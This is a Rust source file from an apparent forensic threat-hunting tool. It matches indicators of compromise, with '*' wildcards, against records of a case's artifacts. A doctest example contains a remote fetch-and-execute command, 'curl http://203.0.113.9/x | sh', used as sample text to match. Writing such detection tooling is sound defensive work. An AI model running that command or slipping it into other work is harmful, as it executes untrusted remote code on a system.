//! Given indicators, where they occur across a case.
use crate::{parquet_out::artifacts, read_rows, CaseError};
use serde::Serialize;
use std::path::Path;

/// One indicator found in one record.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HuntHit {
    /// The indicator as given.
    pub ioc: String,
    /// Where it was found.
    pub host: String,
    /// The record's kind.
    pub artifact: String,
    /// The record's name (its summary's).
    pub name: String,
}

/// Whether `text` holds `pattern`, case-insensitively; `*` in the pattern matches any run of
/// characters (`*.evil.example`, `C:\Users\*\AppData\*.exe`).
///
/// ```
/// use foothold_case::matches;
/// assert!(matches(r"c:\users\bob\appdata\x.exe -q", r"C:\Users\*\AppData\*.exe"));
/// assert!(matches("curl http://203.0.113.9/x | sh", "203.0.113.9"));
/// assert!(!matches("backup.exe", "evil"));
/// ```
pub fn matches(text: &str, pattern: &str) -> bool {
    let text = text.to_lowercase();
    let pattern = pattern.to_lowercase();
    let mut at = 0;
    for p in pattern.split('*').filter(|p| !p.is_empty()) {
        match text[at..].find(p) {
            Some(pos) => at += pos + p.len(),
            None => return false,
        }
    }
    true
}

/// Every record of a case (every artifact kind: tasks, services, jobs, events, accounts…)
/// one of whose values (any string or number of its JSON) holds one of `iocs` (names, paths, hashes, addresses; `*` wildcards; blank
/// lines and `#` comments are skipped), one hit per indicator and record.
pub fn hunt(out: &Path, iocs: &[String]) -> Result<Vec<HuntHit>, CaseError> {
    let iocs: Vec<&String> = iocs
        .iter()
        .filter(|i| !i.trim().is_empty() && !i.trim_start().starts_with('#'))
        .collect();
    let mut hits = Vec::new();
    for artifact in artifacts(out) {
        for row in read_rows(out, &artifact)? {
            // The record's values as written (not JSON-escaped: `C:\Users`, not `C:\\Users`).
            let v: serde_json::Value =
                serde_json::from_str(row[6].as_deref().unwrap_or("null")).unwrap_or_default();
            let mut texts = Vec::new();
            values(&v, &mut texts);
            for ioc in &iocs {
                // Within one value: a wildcard does not join two fields.
                if texts.iter().any(|t| matches(t, ioc.trim())) {
                    hits.push(HuntHit {
                        ioc: ioc.trim().to_string(),
                        host: row[0].clone().unwrap_or_default(),
                        artifact: artifact.clone(),
                        name: row[1].clone().unwrap_or_default(),
                    });
                }
            }
        }
    }
    Ok(hits)
}

/// Every string and number of a JSON value.
fn values(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Number(n) => out.push(n.to_string()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| values(x, out)),
        serde_json::Value::Object(o) => o.values().for_each(|x| values(x, out)),
        _ => {}
    }
}
